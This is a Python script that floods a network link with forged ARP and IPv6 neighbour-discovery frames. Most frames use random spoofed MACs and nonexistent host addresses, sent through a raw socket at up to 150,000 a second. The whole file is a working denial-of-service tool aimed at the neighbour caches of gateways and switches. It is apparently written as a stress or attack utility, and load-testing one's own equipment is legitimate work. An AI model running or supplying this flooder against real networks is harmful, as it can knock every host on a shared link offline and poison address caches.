#!/usr/bin/env python3
"""Floods a link with ARP and neighbour discovery of stations that there are not, 150,000 a second where this machine can send so many.

    link_flood.py INTERFACE SECONDS KIND NETWORK GATEWAY [MAC ADDRESS]

KIND: requests, replies (ARP), solicitations, advertisements.  Every frame has another MAC and another address of NETWORK, or
all of them MAC and ADDRESS.  Prints how many were sent.
"""
import ipaddress
import random
import socket
import struct
import sys
import time

from neighbour import checksum, mac

BROADCAST = b"\xff" * 6
A_SECOND = 150_000


def arp(operation, of, address, gateway):
    message = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + of + address + bytes(6) + gateway
    return BROADCAST + of + b"\x08\x06" + message + bytes(18)


def discovery(kind, of, address, gateway):
    asks = kind == "solicitations"
    group = b"\xff\x02" + bytes(9) + b"\x01\xff" + gateway[13:] if asks else b"\xff\x02" + bytes(13) + b"\x01"
    body = struct.pack("!BBHI", 135 if asks else 136, 0, 0, 0 if asks else 0x20000000)
    body += (gateway + b"\x01\x01" if asks else address + b"\x02\x01") + of
    pseudo = address + group + struct.pack("!II", len(body), 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    header = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + address + group
    return b"\x33\x33" + group[12:] + of + b"\x86\xdd" + header + body


def main():
    interface, seconds, kind, network, gateway = sys.argv[1:6]
    draw = random.Random(7)
    net, gateway = ipaddress.ip_network(network), ipaddress.ip_address(gateway).packed
    hosts = min(net.num_addresses - 2, 60000)

    def frame():
        of, address = (mac(sys.argv[6]), ipaddress.ip_address(sys.argv[7])) if len(sys.argv) > 7 else (
            b"\x02\x77" + draw.randbytes(4), net[1000 % hosts + draw.randrange(hosts - 1000 % hosts)])
        if kind in ("requests", "replies"):
            return arp(1 if kind == "requests" else 2, of, address.packed, gateway)
        return discovery(kind, of, address.packed, gateway)

    frames = [frame() for _ in range(2000)]
    begun = time.monotonic()
    sent, until = 0, begun + float(seconds)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((interface, 0))
        wire.setblocking(True)
        while time.monotonic() < until:
            for one in frames:
                try:
                    wire.send(one)
                    sent += 1
                except OSError:  # no room in the queue
                    time.sleep(0.0005)
            time.sleep(max(0.0, begun + sent / A_SECOND - time.monotonic()))
    print(f"{sent} {kind} in {seconds} s")


main()
